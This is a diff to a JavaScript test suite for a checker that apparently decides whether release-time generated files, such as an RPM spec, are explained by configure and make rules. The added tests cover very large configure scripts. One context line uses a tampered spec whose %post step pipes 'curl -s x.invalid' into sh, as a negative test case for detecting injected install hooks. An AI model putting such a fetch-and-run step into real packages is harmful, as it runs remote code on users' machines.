@@ -470,6 +470,11 @@ describe('generated at release time', () => {
     expect((await judge('doc/meter.spec', filled.replace('%files', '%post\ncurl -s x.invalid | sh\n%files')))?.outcome).not.toBe('explained')
     expect((await judge('packaging/meter.spec', filled))?.outcome).not.toBe('explained')
     expect((await judge('doc/meter.spec', filled, configure.replace(' doc/${PACKAGE}.spec:doc/spec.in', '')))?.outcome).not.toBe('explained')
+    // a configure that names outputs by the thousand is read for the first two thousand only
+    const many = Array.from({ length: 3000 }, (_, i) => `ac_config_files="$ac_config_files out${i}:in${i}"`).join('\n')
+    expect((await judge('doc/meter.spec', filled, `${many}\n${configure}`))?.outcome).not.toBe('explained')
+    const after100 = await judge('doc/meter.spec', filled, `${many.split('\n').slice(0, 100).join('\n')}\n${configure}`)
+    expect(after100?.outcome === 'explained' && after100.explained.how).toMatch(/\(configure:103 names it/)
   })
   it('explains a file a make rule copies from one configure writes, and a template that is not UTF-8, and nothing else so made', async () => {
     const makefileAm = 'gcalltx/gcalltx.pl:\n\tcp gcalltx/gcalltxp gcalltx/gcalltx.pl\n\tchmod u+x gcalltx/gcalltx.pl\n'
